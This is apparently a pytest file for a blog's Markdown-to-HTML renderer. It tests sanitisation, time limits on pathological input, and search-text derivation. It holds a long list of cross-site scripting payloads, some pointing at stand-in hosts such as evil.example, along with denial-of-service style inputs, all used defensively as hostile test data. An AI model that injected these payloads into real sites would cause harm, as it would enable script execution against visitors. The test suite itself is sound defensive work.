"""Rendering: what Markdown becomes, and that no text becomes anything that does harm."""

from __future__ import annotations

import re
import time
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from nxfs.blog.service import rendering
from nxfs.blog.service.rendering import LONGEST_DOCUMENT, LONGEST_HTML, TAGS, TOO_INTRICATE, derive, render, search_text
from nxfs.core.errors import InvalidInputError

LONGEST_BODY = 100_000
SECONDS = 3

# What a browser takes for a scheme, but those that are allowed.
HARMFUL = re.compile(r"(?!(?:https?|mailto|tel):)[a-z][a-z0-9+.-]*:", re.IGNORECASE)

PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "<script/x>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x oNeRrOr = 'alert(1)'>",
    '<img/src="x"/onerror="alert(1)">',
    '<img src="x`<script>alert(1)</script>"`onerror=alert(1)>',
    "<img src=javascript:alert(1)>",
    "<img src='data:text/html,<script>alert(1)</script>'>",
    "<img srcset='javascript:alert(1) 1x' src=x>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<style><img src='</style><img src=x onerror=alert(1)>'>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href='&#x01;javascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='#' onclick='alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](<java script:alert(1)>)",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:alert(1))",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    '![x](x "onerror=alert(1)")',
    '![x" onerror="alert(1)](x)',
    '[x](http://a.example/"onmouseover="alert(1))',
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "<iframe src='https://evil.example'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data='x.swf'></object><embed src='x.swf'>",
    "<form action='https://evil.example'><input name=x><button formaction='javascript:alert(1)'>x</button></form>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href='//evil.example/x.css'>",
    "<video><source onerror=alert(1)></video>",
    "<details open ontoggle=alert(1)>x</details>",
    "<body onload=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea></textarea><script>alert(1)</script>",
    "<title><img title='</title><img src=x onerror=alert(1)>'></title>",
    "<xmp><script>alert(1)</script></xmp>",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    '```js" onmouseover="alert(1)\nx\n```',
    "```<script>alert(1)</script>\nx\n```",
    "`<script>alert(1)</script>`",
    "|<script>alert(1)</script>|b|\n|-|-|\n|<img src=x onerror=alert(1)>|d|",
    "> <div onmouseover=alert(1)>x",
    "<x-component onclick=alert(1)>x</x-component>",
    "<p id='location' class='admin' name='x'>x</p>",
    "<\u0000script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
]


class Inspector(HTMLParser):
    """Collects what in a text of HTML would do harm, as a parser of another kind than the sanitiser's sees it."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.harm: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Note tags and attributes that nobody may write."""
        if tag not in TAGS:
            self.harm.append(tag)
        for name, value in attrs:
            if name.startswith("on") or name in ("style", "srcset", "srcdoc", "id", "name", "formaction", "action"):
                self.harm.append(f"{tag} {name}")
            if name in ("href", "src") and HARMFUL.match(re.sub(r"[\x00-\x20]", "", value or "")):
                self.harm.append(f"{tag} {name}={value}")

    def handle_decl(self, decl: str) -> None:
        """Note declarations."""
        self.harm.append(decl)


def harm_in(html: str) -> list[str]:
    """Return what would do harm in ``html``."""
    return Inspector(html).harm


def test_inspector_of_these_tests_sees_harm() -> None:
    for html in PAYLOADS[:8] + ["<a href='java\tscript:x'>", "<p style=x>", "<iframe>"]:
        assert harm_in(html), html


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("around", ["{}", "text {} text", "> {}", "- {}", "**{}**", "[{}](http://a.example)", "<b>{}"])
def test_render_hostile_text_does_no_harm(payload: str, around: str) -> None:
    html = render(around.format(payload))

    assert harm_in(html) == []
    assert "<script" not in html.lower()


@settings(max_examples=300, deadline=None)
@given(
    st.lists(st.sampled_from([*PAYLOADS, "<", ">", '"', "'", "`", "\n", "\n\n", " ", "](", "![", "&", "&#", ";", "="]))
)
def test_render_any_mixture_of_hostile_texts_does_no_harm(parts: list[str]) -> None:
    assert harm_in(render("".join(parts))) == []


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.characters(exclude_categories=["Cs"])))
def test_render_any_text_does_no_harm_and_is_stable_when_cleaned_again(text: str) -> None:
    assert harm_in(render(text)) == []


@pytest.mark.parametrize(
    ("markdown", "html"),
    [
        ("Blå **fet** *skrå* ~~bort~~", "<p>Blå <strong>fet</strong> <em>skrå</em> <s>bort</s></p>\n"),
        ("# A\n\n- b\n- c", "<h1>A</h1>\n<ul>\n<li>b</li>\n<li>c</li>\n</ul>\n"),
        ("[x](https://a.no/?b=1&c=2)", '<p><a href="https://a.no/?b=1&amp;c=2" rel="noopener noreferrer">x</a></p>\n'),
        ("[x](/blog/y)", '<p><a href="/blog/y" rel="noopener noreferrer">x</a></p>\n'),
        ("[x](mailto:a@b.no)", '<p><a href="mailto:a@b.no" rel="noopener noreferrer">x</a></p>\n'),
        ('![x](/media/a.jpg "t")', '<p><img src="/media/a.jpg" alt="x" title="t"></p>\n'),
        ("```python\n1 < 2\n```", '<pre><code class="language-python">1 &lt; 2\n</code></pre>\n'),
        ("<code class='evil language-x'>a</code>", "<p><code>a</code></p>\n"),
        ("<img src='/a.png' loading='lazy' width='30' height='1e9'>", '<img src="/a.png" loading="lazy" width="30">'),
        ("www.example.com http://example.com", "<p>www.example.com http://example.com</p>\n"),
        ("<b>a <i>b", "<p><b>a <i>b</i></b></p><b><i>\n</i></b>"),
        ("", ""),
    ],
)
def test_render_returns_html(markdown: str, html: str) -> None:
    assert render(markdown) == html


def test_render_table_keeps_the_alignment_of_its_columns() -> None:
    html = render("|a|b|\n|:-:|-:|\n|c|d|")

    assert '<th align="center">a</th>' in html
    assert '<td align="right">d</td>' in html


def _fill(text: str) -> str:
    return (text * (LONGEST_BODY // len(text) + 1))[:LONGEST_BODY]


# Refused, since they would take up to four seconds, or become up to a hundred megabytes.
INTRICATE = {
    **{text: _fill(text) for text in ("[", "![", "[![", "[[a]", "![*", "![](", "![x][", "a\n", "- a\n", "a|b\n-|-\n")},
    **{text: _fill(text) for text in ("<div>\n", "<ul><li>")},
    "columns": "|".join("x" * 1000) + "\n" + "|".join("-" * 1000) + "\n" + "x\n" * 45_000,
    "nested images": "![" * 20 + "*a" * 40_000 + "](b)" * 20,
    "many nested images": _fill("![" * 18 + "*a" * 200 + "](b)" * 18),
    "lines of quotations": _fill("> " * 19 + "a\n" * 50_000),
}
PATHOLOGICAL = {
    **{text: _fill(text) for text in ("[](", ">", "> ", "- ", "*a_ ", "**a", "***a", "~~a", "`", "<", "&", "<!--")},
    **{text: _fill(text) for text in ("<b>", "<a>", "<table><tr><td>", "<ul><li></x></x>", "a <![CDATA[", "[a](<b")},
    "backticks": "".join("e" + "`" * length for length in range(1, 445)),
    "definitions": "\n".join(f"[a{number}]: /x" for number in range(8_000)),
    "references": f"[a]: http://x/{'y' * 10_000}\n\n" + "[a]\n" * 10_000,
    "images by reference": f"[a]: http://x/{'y' * 10_000} '{'z' * 10_000}'\n\n" + "![a]\n" * 10_000,
    "references of many": "".join(f"[a{n}]: /{'ø' * 2_000}\n" for n in range(25)) + "\n" + "[a7] [a9]\n" * 4_000,
}


@pytest.mark.parametrize("name", PATHOLOGICAL)
def test_render_the_longest_pathological_text_takes_seconds_at_most(name: str) -> None:
    started = time.thread_time()
    try:
        html = render(PATHOLOGICAL[name])
    except InvalidInputError:
        html = ""

    # Less than one second on a machine that is not busy.
    assert time.thread_time() - started < SECONDS
    assert harm_in(html[:20_000]) == []
    assert len(html) < 10 * LONGEST_BODY


@pytest.mark.parametrize("name", INTRICATE)
def test_render_a_text_that_would_take_too_long_is_refused_in_time(name: str) -> None:
    started = time.thread_time()
    with pytest.raises(InvalidInputError) as caught:
        render(INTRICATE[name], field="body_markdown_nb")

    assert time.thread_time() - started < SECONDS
    assert caught.value.field_errors == {"body_markdown_nb": [TOO_INTRICATE]}


def test_render_text_that_becomes_too_long_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(rendering, "LONGEST_HTML", 20)

    assert render("a" * 12) == f"<p>{'a' * 12}</p>\n"
    with pytest.raises(InvalidInputError):
        render("a" * 13)
    assert LONGEST_HTML > 10 * LONGEST_BODY


def test_references_of_ordinary_posts_all_become_links() -> None:
    markdown = f"[a]: http://a.example/{'b' * 90} 'c'\n\n" + "See [a], ![a] and [the other][a].\n\n" * 200

    assert render(markdown).count("http://a.example/") == 600


ORDINARY = """## Strøm til hytta {n}

Det begynte med **én** kabel, [tegningen](/files/{n}.pdf) og ![hytta](/media/a.jpg "Hytta") i *snø*; se [b][c].

- første ting, `kode`
- andre ting
    1. med <kbd>Ctrl</kbd>

| ampere | volt |
|-------:|------|
| {n}    | 230  |

> Et sitat, som er
> to linjer langt.

[c]: https://c.example/{n}
"""


def test_the_longest_ordinary_text_is_rendered() -> None:
    html = render("".join(ORDINARY.format(n=number) for number in range(300))[:LONGEST_BODY])

    assert html.count("<table>") == html.count("<blockquote>") > 200


def test_derive_renders_only_what_has_changed() -> None:
    present = {"title": "A", "title_nb": "", "excerpt": "", "excerpt_nb": "", "body_markdown": "b"}

    assert derive({"title": "A", "body_markdown": "b"}, present | {"body_markdown_nb": ""}).columns == {}
    columns = derive({"body_markdown_nb": "*c*"}, present | {"body_markdown_nb": ""}).columns
    assert columns == {"body_html_nb": "<p><em>c</em></p>\n", "search_text": "b c"}
    columns = derive({"title_nb": "Å"}, present | {"body_markdown_nb": ""}).columns
    assert columns == {"title_key": "a", "search_title": "a å"}


def test_search_text_is_never_longer_than_the_index_takes() -> None:
    # Each letter becomes four, and no two words are the same.
    text = " ".join(f"{'㌀' * 20}{number}" for number in range(8_000))

    assert len(search_text(text).encode()) <= LONGEST_DOCUMENT
    assert search_text("a b a", "b c") == "a b c"
